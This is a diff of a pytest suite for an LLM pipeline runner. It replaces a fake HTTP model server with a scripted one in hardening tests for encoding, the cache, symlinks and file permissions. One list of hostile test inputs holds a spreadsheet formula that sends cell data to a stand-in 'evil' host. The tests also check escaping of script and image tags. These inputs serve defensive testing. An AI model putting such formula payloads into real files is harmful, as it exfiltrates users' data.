@@ -13,8 +13,8 @@ from unittest.mock import ANY
 
 import pytest
 
-from fakellm import Reply
-from helpers import VERDICTS, run, write_json
+from helpers import VERDICTS, run, scripted_seats, write_json
+from runner.testing import Reply
 
 REPO = Path(__file__).resolve().parents[2]
 VERDICT_SCHEMA = {"type": "object", "required": ["verdict", "reason"],
@@ -22,8 +22,7 @@ VERDICT_SCHEMA = {"type": "object", "required": ["verdict", "reason"],
 JUDGE = """
     version: 1
     name: hj
-    env: [FAKE_URL]
-    models: {m: {model: openai/m1, api_base: "{{ env.FAKE_URL }}", backoff: 0.01, retries: 0}}
+    models: {m: {model: scripted/m1, backoff: 0.01, retries: 0}}
     steps:
       - id: ask
         uses: llm
@@ -45,8 +44,7 @@ HOSTILE = ["x \ud800 lone", "=HYPERLINK(\"http://evil/?x=\"&B2,\"Click\")", "+cm
 
 
 @pytest.fixture
-def judge(project, fake_llm, monkeypatch):
-    monkeypatch.setenv("FAKE_URL", fake_llm.url)
+def judge(project, scripted_llm):
     project.schema("verdict.schema.json", VERDICT_SCHEMA)
     project.prompt("ask.j2", "Judge: {{ item.claim }}\n")
     return project.pipeline(JUDGE)
@@ -72,9 +70,9 @@ def valid_outputs(out: Path) -> list[dict]:
 
 # ---- H1: one safe encoding path for everything written ------------------------------------
 
-def test_lone_surrogates_in_the_input_and_the_answer_never_break_a_file(project, judge, fake_llm, cli):
-    fake_llm.script(Reply('{"verdict": "VALID", "reason": "bad \\ud83d escaped"}'), contains="escaped")
-    fake_llm.script(Reply('{"verdict": "VALID", "reason": "bad \ud83d raw"}'))
+def test_lone_surrogates_in_the_input_and_the_answer_never_break_a_file(project, judge, scripted_llm, cli):
+    scripted_llm.script(Reply('{"verdict": "VALID", "reason": "bad \\ud83d escaped"}'), contains="escaped")
+    scripted_llm.script(Reply('{"verdict": "VALID", "reason": "bad \ud83d raw"}'))
     source = write_json(project.root / "in.json", [{"claim": "x \ud800"}, {"claim": "escaped"}, {"claim": "ok"}])
     result = cli("run", str(judge), "--input", str(source), "--out", "out", "--format", "csv", "--format", "junit")
     assert result.exit_code == 0, result.output
@@ -84,16 +82,16 @@ def test_lone_surrogates_in_the_input_and_the_answer_never_break_a_file(project,
     assert project.summary()["total"] == 3 and project.summary()["errors"] == 0
     calls = (project.root / "out" / "calls.jsonl").read_text(encoding="utf-8").splitlines()
     assert len(calls) == 3 and any("x \ufffd" in json.loads(line)["messages"][-1]["content"] for line in calls)
-    fake_llm.reset()
+    scripted_llm.reset()
     again = cli("run", str(judge), "--input", str(source), "--out", "again")
     assert again.exit_code == 0, again.output
-    assert fake_llm.requests == []                                   # all three answers came from the cache
+    assert scripted_llm.requests == []                                   # all three answers came from the cache
     assert [r["reason"] for r in valid_outputs(project.root / "again")][1:] == ["bad \ufffd escaped", "bad \ufffd raw"]
 
 
-def test_a_cached_bad_answer_never_crashes_a_rerun(project, judge, fake_llm, cli):
+def test_a_cached_bad_answer_never_crashes_a_rerun(project, judge, scripted_llm, cli):
     import diskcache
-    fake_llm.script(Reply('{"verdict": "VALID", "reason": "fine"}'))
+    scripted_llm.script(Reply('{"verdict": "VALID", "reason": "fine"}'))
     source = write_json(project.root / "in.json", [{"claim": "a"}, {"claim": "b"}, {"claim": "c"}])
     assert cli("run", str(judge), "--input", str(source), "--out", "out").exit_code == 0
     cache = diskcache.Cache(str(project.root / "cache" / "responses"))
@@ -105,22 +103,22 @@ def test_a_cached_bad_answer_never_crashes_a_rerun(project, judge, fake_llm, cli
     cache.set(keys[1], "{not json")
     cache.set(keys[2], json.dumps([1, 2]))
     cache.close()
-    fake_llm.reset()
-    fake_llm.script(Reply('{"verdict": "VALID", "reason": "asked again"}'))
+    scripted_llm.reset()
+    scripted_llm.script(Reply('{"verdict": "VALID", "reason": "asked again"}'))
     again = cli("run", str(judge), "--input", str(source), "--out", "again")
     assert again.exit_code == 0, again.output
     reasons = sorted(r["reason"] for r in valid_outputs(project.root / "again"))
     assert reasons == ["asked again", "asked again", "cached \ufffd"]
-    assert len(fake_llm.requests) == 2                               # only the unreadable entries
+    assert len(scripted_llm.requests) == 2                               # only the unreadable entries
 
 
 @pytest.mark.parametrize("usage", ["12.5", [1], 1e400, {"x": 1}])
-def test_odd_usage_counts_are_unknown_usage_not_an_error(project, judge, fake_llm, usage):
+def test_odd_usage_counts_are_unknown_usage_not_an_error(project, judge, scripted_llm, usage):
     body = json.dumps({"id": "c", "object": "chat.completion", "model": "m1",
                        "choices": [{"index": 0, "finish_reason": "stop", "message": {
                            "role": "assistant", "content": '{"verdict": "VALID", "reason": "ok"}'}}],
                        "usage": {"prompt_tokens": usage, "completion_tokens": 7, "total_tokens": usage}})
-    fake_llm.script(Reply(raw_body=body.replace('Infinity', '1e400')))
+    scripted_llm.script(Reply(raw_body=body.replace('Infinity', '1e400')))
     [result] = run(judge, write_json(project.root / "in.json", [{"claim": "a"}])).results
     assert result["verdict"] == "VALID" and "error" not in result
     usage_seen = json.loads((project.root / "out" / "summary.json").read_text())["models"]["m"]
@@ -129,14 +127,13 @@ def test_odd_usage_counts_are_unknown_usage_not_an_error(project, judge, fake_ll
 
 # ---- H3: item-level failures stay in that item ------------------------------------------------
 
-def test_a_record_with_odd_warnings_or_an_error_field_is_an_ordinary_item(project, fake_llm):
+def test_a_record_with_odd_warnings_or_an_error_field_is_an_ordinary_item(project, scripted_llm):
     from test_evidence_judge import batch, cls, judgment
-    fake_llm.script(Reply(judgment(0.9)))
-    base = fake_llm.url.rsplit("/v1", 1)[0]
+    scripted_llm.script(Reply(judgment(0.9)))
     source = write_json(project.root / "in.json", [batch([cls("A", warnings=5), cls("B", error="from the input"),
                                                           cls("C")])])
     outcome = run(REPO / "pipelines" / "evidence_judge.yaml", source, out=project.root / "out",
-                  overrides=[f"models.judge.api_base={base}", "models.judge.backoff=0.01", "models.judge.retries=0"])
+                  overrides=[*scripted_seats("judge"), "models.judge.backoff=0.01", "models.judge.retries=0"])
     a, b, c = outcome.results
     assert a["input_warnings"] == 5 and "error" not in a and "warnings" not in a
     assert b["input_error"] == "from the input" and "error" not in b
@@ -218,8 +215,8 @@ def _outside(project) -> Path:
 
 
 @pytest.mark.parametrize("planted", [".runner.lock", "results.jsonl", "summary.json", "calls.jsonl"])
-def test_a_symlink_planted_in_the_output_folder_is_refused(project, judge, fake_llm, cli, planted):
-    fake_llm.script(Reply('{"verdict": "VALID", "reason": "fine"}'))
+def test_a_symlink_planted_in_the_output_folder_is_refused(project, judge, scripted_llm, cli, planted):
+    scripted_llm.script(Reply('{"verdict": "VALID", "reason": "fine"}'))
     outside = _outside(project)
     (project.root / "out").mkdir()
     (project.root / "out" / planted).symlink_to(outside / "victim.txt")
@@ -243,8 +240,8 @@ def test_writes_open_no_symlink_even_when_one_appears_after_the_check(tmp_path):
 
 # ---- H8: no writable content shared between runs and the cache; the umask holds --------------
 
-def test_a_runs_calls_file_is_its_own_with_the_umask(project, judge, fake_llm, cli):
-    fake_llm.script(Reply('{"verdict": "VALID", "reason": "fine"}'))
+def test_a_runs_calls_file_is_its_own_with_the_umask(project, judge, scripted_llm, cli):
+    scripted_llm.script(Reply('{"verdict": "VALID", "reason": "fine"}'))
     source = write_json(project.root / "in.json", [{"claim": "a"}])
     assert cli("run", str(judge), "--input", str(source), "--out", "one").exit_code == 0
     previous = os.umask(0o077)
@@ -263,7 +260,7 @@ def test_a_runs_calls_file_is_its_own_with_the_umask(project, judge, fake_llm, c
     assert json.loads(first.read_text()) == original
     assert cli("run", str(judge), "--input", str(source), "--out", "three").exit_code == 0
     assert json.loads((project.root / "three" / "calls.jsonl").read_text())["answer"] == original["answer"]
-    assert fake_llm.requests and len(fake_llm.requests) == 1
+    assert scripted_llm.requests and len(scripted_llm.requests) == 1
 
 
 # ---- H21: a run whose setup fails leaves no folder behind -------------------------------------
@@ -460,10 +457,10 @@ def test_a_hostile_schema_file_is_a_located_message(project, cli, content, messa
 
 # ---- Done when: every answer and every record hostile, every output file valid --------------
 
-def test_a_run_whose_every_answer_and_record_is_hostile_writes_valid_files(project, judge, fake_llm, cli):
+def test_a_run_whose_every_answer_and_record_is_hostile_writes_valid_files(project, judge, scripted_llm, cli):
     reason = " | ".join(HOSTILE) + " escaped \\ud83d"
     answer = json.dumps({"verdict": "=VALID", "reason": reason}, ensure_ascii=False)
-    fake_llm.script(Reply(answer.replace("\\\\ud83d", "\\ud83d")))          # raw and JSON-escaped surrogates
+    scripted_llm.script(Reply(answer.replace("\\\\ud83d", "\\ud83d")))          # raw and JSON-escaped surrogates
     records = [{"claim": text, "note": text} for text in HOSTILE]
     source = write_json(project.root / "in.json", records)
     for out in ("out", "again"):                                          # sent, then from the cache
@@ -483,7 +480,7 @@ def test_a_run_whose_every_answer_and_record_is_hostile_writes_valid_files(proje
         assert "&lt;script&gt;" in (project.root / out / "report.html").read_text(encoding="utf-8")
         markdown = (project.root / out / "report.md").read_text(encoding="utf-8")
         assert "<script" not in markdown.lower() and "<img" not in markdown.lower()      # H16: no raw HTML
-    assert len(fake_llm.requests) == len(HOSTILE)
+    assert len(scripted_llm.requests) == len(HOSTILE)
 
 
 # ---- issue 50, F1: every field read from a run folder is type-checked -------------------------
